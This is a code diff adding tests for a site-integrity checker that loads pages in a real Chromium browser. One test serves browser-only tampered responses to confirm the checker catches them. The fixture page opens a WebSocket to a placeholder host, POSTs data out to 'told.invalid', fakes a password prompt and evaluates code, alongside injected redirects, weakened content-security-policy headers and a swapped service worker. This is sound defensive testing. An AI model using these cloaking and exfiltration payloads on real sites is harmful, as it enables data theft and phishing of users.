@@ -14,6 +14,8 @@ import { startMeddler } from "./lib/meddler.mjs";
 import { Authority } from "./lib/tls.mjs";
 import { all } from "./lib/words.mjs";
 
+/** The browser to go to sites with. */
+const SHELL = process.env.LAKZEGEL_CHROMIUM_SHELL ?? process.env.LAKZEGEL_CHROMIUM ?? "/usr/bin/chromium";
 const SITE = fileURLToPath(new URL("../site.mjs", import.meta.url));
 
 let deployment;
@@ -276,4 +278,41 @@ test("a site for kiosks leads there from every other page, and only one that is 
 test("a site is compared only where nobody on the way can change it", async () => {
   const { code, refused } = await compare(await goodList(), "http://brief.example/");
   assert.deepEqual([code, refused], [1, "refused: not https: anybody on the way can change it\n"]);
+});
+
+test("an honest site is honest in a real browser, too", async () => {
+  const { code, said, refused } = await compare(await goodList(), deployment.url, { options: ["--browser", SHELL] });
+  assert.deepEqual([code, refused], [0, ""]);
+  const [, answers] = said.match(/and by (\d+) answers to a browser/) ?? [];
+  // In each language the first visit loads the page, what it needs, and the worker's copy of everything.
+  assert.ok(answers > all.length * 30, said);
+});
+
+/** A page of somebody else's, which does what ours must never do. */
+const OTHER_PAGE = `<!doctype html><iframe srcdoc="<p>x"></iframe><script>
+new WebSocket("ws://line.invalid/"); fetch("http://told.invalid/", { method: "POST", mode: "no-cors", body: "all" });
+fetch("/v1/sent", { method: "POST", body: "all" }); alert("Your password?"); new Function("return 1")();</script>`;
+
+test("a site is found out that is honest with everybody but a real browser", async () => {
+  const changes = {
+    "/privileged": [
+      (answer) => ((answer.body = Buffer.from(OTHER_PAGE)), answer.set("content-encoding"), answer.set("content-security-policy")),
+      "other bytes", "content-security-policy is missing", "runs a script that is not in the list, of http", "runs a script that is not in the list, of nowhere",
+      "opens a line of its own to ws://line.invalid/", "asks somebody else: http://told.invalid/", "shows a frame: about:srcdoc", "wants to lead to about:srcdoc", "asks: Your password?",
+    ],
+    "/identity": [(answer) => ((answer.status = 302), answer.set("location", "https://elsewhere.invalid/")), "status 302, to https://elsewhere.invalid/", "asks somebody else: https://elsewhere.invalid/", "no answer: ", "leads to chrome-error:"],
+    "/recipient": [(answer) => answer.add("refresh", "0; url=/status"), "refresh: 0; url=/status is not in the list", "wants to lead to http", "leads to http"],
+    "/review": [(answer) => answer.set("content-security-policy", "default-src *"), "content-security-policy is default-src *, not"],
+    "/status": [(answer) => answer.add("content-security-policy", "default-src *"), "content-security-policy comes 2 times", "content-security-policy is default-src *, not"],
+    "/check": [(answer) => answer.add("set-cookie", "who=you"), "set-cookie: who=you is not in the list"],
+    "/outbox": [(answer) => answer.add("content-disposition", "attachment; filename=x.html"), "content-disposition: ", "gives a file to keep: ", "no answer: "],
+    "/service-worker.js": [(answer) => ((answer.body = Buffer.from("fetch(\"/v1/seen\")")), answer.set("content-encoding"), answer.add("service-worker-allowed", "/")), "service-worker-allowed: / is not in the list"],
+  };
+  // The command itself says that it is another Chromium, on another system.
+  const isReal = (request) => request.headers["user-agent"]?.includes("(X11; Linux x86_64) AppleWebKit");
+  for (const change of Object.values(changes)) {
+    const [act] = change;
+    change[0] = (answer, request) => isReal(request) && act(answer);
+  }
+  await findsOut(changes, { options: ["--browser", SHELL], besides: ["/: runs a script that is not in the list, of http", "line.invalid:80: is called by the browser", "/v1/sent: is sent something, by POST"] });
 });
